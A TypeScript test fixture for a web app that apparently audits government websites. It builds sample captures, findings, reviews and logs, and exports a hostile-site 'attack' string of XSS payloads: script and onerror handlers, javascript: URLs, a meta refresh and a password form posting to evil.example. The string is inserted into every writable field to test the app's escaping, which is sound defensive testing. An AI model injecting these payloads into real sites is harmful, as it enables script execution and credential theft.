import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Capture } from '../../src/model/capture.ts';
import type { Finding } from '../../src/model/finding.ts';
import type { Store } from '../../src/store/store.ts';
import { foundIn, freeze, pack as smallPack, storeRun } from '../application/known-data.ts';
import { openStore } from '../store/place.ts';
import { capture, finding, town } from '../store/samples.ts';
import { emptyFolder } from './consoles.ts';

export { smallPack };

/** What a hostile site writes wherever a site can write. */
export const attack =
  '"><script>window.ran=1</script><img src=x onerror="window.ran=1"><svg onload="window.ran=1"></svg>' +
  '<style>body{background:url(https://evil.example/css)}</style>' +
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">' +
  '<form action="https://evil.example/"><input name="password"></form><a href="javascript:window.ran=1">x</a>\u202e';

const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]);

interface Sample {
  readonly folder: string;
  /** Id of the capture that the finding of town 1 quotes. */
  readonly capture: string;
}

/**
 * A data folder with one run over three towns, an edition of it, a review and a log.
 *
 * @param text what stands wherever a site, a person or the log may write
 */
export async function sampleFolder(text = 'plain text'): Promise<Sample> {
  const folder = emptyFolder();
  const store = await openStore(folder, 'write');
  try {
    const captures = await capturesOf(store, text);
    const towns = {
      1: { findings: findingsOf('1', text), captures },
      2: { findings: [foundIn('r1', '2', 'absent'), foundIn('r1', '2', 'present', 'sa-two')] },
      3: { findings: [foundIn('r1', '3', 'unknown')] },
    };
    await storeRun(store, 'r1', towns, { provinces: { 1: text.slice(0, 80), 2: 'North' } });
    await store.reviews.append({
      ...{ government: '2', probe: 'sa-one', run: 'r1', observed: '1000-01-01T00:00:00.000Z' },
      ...{ machine: { state: 'absent', value: null }, state: 'present', value: { level: 'working' } },
      ...{ who: text, when: '2026-02-01T00:00:00.000Z', why: text },
    });
    await store.reviews.record([
      {
        ...{ government: '1', probe: 'sa-one', run: 'r1', observed: '1000-01-01T00:00:00.000Z', kind: 'objection' },
        ...{ machine: { state: 'present', value: null }, state: 'absent', value: { level: text } },
        ...{ who: text, when: '2026-02-02T00:00:00.000Z', why: text },
        details: {
          objection: { signer: text, office: text, dated: '2026-02-01', file: 'f'.repeat(64), reference: text },
        },
      },
    ]);
    await freeze(store, '2023', 'r1');
  } finally {
    await store.close();
  }
  writeLog(folder, text);
  return { folder, capture: 'r1-1' };
}

async function capturesOf(store: Store, text: string): Promise<Capture[]> {
  const page = `<html><head><title>${text}</title></head><body><p>before</p><p>quote of r1</p><p>${text}</p><p>${escaped(text)}</p></body></html>`;
  const body = await store.evidence.put(Buffer.from(page));
  const screenshot = await store.evidence.put(jpeg);
  const own: Capture = {
    ...capture('1', 'r1-1'),
    ...{ body, screenshot, failure: null, bytes: page.length, label: text, detail: text, from: 'http://home/' },
    ...{ url: 'http://a/', finalUrl: 'javascript:window.ran=1', tls: text, home: false },
    headers: { 'content-type': 'text/html', 'x-site': text },
    redirects: [{ url: `http://b/${text}`, status: 302 }],
    question: { id: 'q', text, probe: 'sa-one' },
  };
  const home: Capture = { ...capture('1', 'home'), url: 'http://home/', finalUrl: 'http://home/', label: text };
  return [home, own];
}

function findingsOf(code: string, text: string): Finding[] {
  const quoted = { ...finding(code, 'present', 'sa-one'), value: { level: 'linked', vendor: text, note: text } };
  return [
    {
      ...quoted,
      evidence: [
        { url: 'javascript:window.ran=1', quote: 'quote of r1', capture: 'r1-1' },
        { url: `http://a/${text}`, quote: text, capture: 'r1-1' },
      ],
    },
    {
      ...finding(code, 'unknown', 'sa-two'),
      obstacles: [{ reason: 'dns', site: 'portal', url: 'javascript:window.ran=1', part: text, intent: text }],
    },
    { ...finding(code, 'not-applicable', 'sb-one'), reason: text },
  ];
}

/** The text as a page shows it when it shows markup itself. */
function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
}

function writeLog(folder: string, text: string): void {
  const line = (event: string, fields: object): string =>
    JSON.stringify({ level: 30, time: '2026-01-01T00:00:00.000Z', run: 'r1', event, government: '1', ...fields });
  const lines = [
    line('run-start', { visits: 3 }),
    line('capture', { level: 40, url: `http://host.example/${text}`, failure: text }),
    line('finding', { probe: 'sa-one', state: 'present', value: { text } }),
    line(text, { detail: text }),
  ];
  mkdirSync(join(folder, 'logs'), { recursive: true });
  writeFileSync(join(folder, 'logs', 'r1.jsonl'), `${lines.join('\n')}\n{"level":30,"ti`);
}

/** Paths of every page about the samples, for tests that open all of them. */
export const samplePages: readonly string[] = [
  '/',
  '/ranking',
  '/ranking?place=unranked',
  '/governments/1',
  '/governments/1/sa-one',
  '/governments/1/sa-two',
  '/governments/1/sb-one',
  '/governments/2/sa-one',
  '/governments/1/sa-one?edition=2023',
  '/captures/1/r1-1?quote=quote%20of%20r1',
  '/captures/1/home',
  '/indicators',
  '/indicators/sa-one',
  '/reviews',
  '/reviews/entry?id=finding%201%20sa-one',
  '/reviews/entry?id=finding%202%20sa-one',
  '/reviews/chain',
  '/readings',
  '/objections',
  '/runs',
  '/runs/r1',
  '/logs?level=debug',
  '/logs?follow=1',
  '/diff?before=r1&after=r1',
  '/editions',
  '/editions/2023',
  '/bulletin',
  '/method',
  '/api',
  '/login',
  '/name',
];

export { town };
